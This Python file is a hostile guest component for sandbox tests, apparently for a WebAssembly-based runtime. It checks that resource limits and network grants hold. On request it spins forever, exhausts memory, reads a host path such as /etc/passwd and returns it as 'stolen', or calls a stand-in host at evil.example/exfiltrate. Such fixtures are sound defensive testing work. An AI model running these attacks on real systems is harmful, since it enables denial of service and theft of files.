"""Hostile Python guest for the sandbox parity tests: one component, one attack per call.

input {"attack": "spin"}     loops forever (fuel and the deadline stop it)
      {"attack": "membomb"}  allocates until the memory cap stops it
      {"attack": "escape", "path": P}   reads P with plain open() (e.g. /etc/passwd)
      {"attack": "http", "url": U}      calls a host its grant does not name
      {"ok": true}           returns {"ok": true}: the component still serves a normal call

One component for every attack: a componentize-py component carries a whole CPython, so one
compile serves the whole suite.
"""
from weft import operator


@operator
def run(input, ctx):
    if not isinstance(input, dict) or input.get("ok"):
        return {"ok": True}
    attack = input.get("attack")
    if attack == "spin":
        n = 0
        while True:
            n += 1
    if attack == "membomb":
        hoard = []
        while True:
            hoard.append(bytearray(8 << 20))
    if attack == "escape":
        with open(input["path"]) as f:
            return {"stolen": f.read()[:200]}
    if attack == "http":
        r = ctx.get(input.get("url", "http://evil.example/exfiltrate"))
        return {"status": r.status}
    raise ValueError(f"unknown attack {attack!r}")
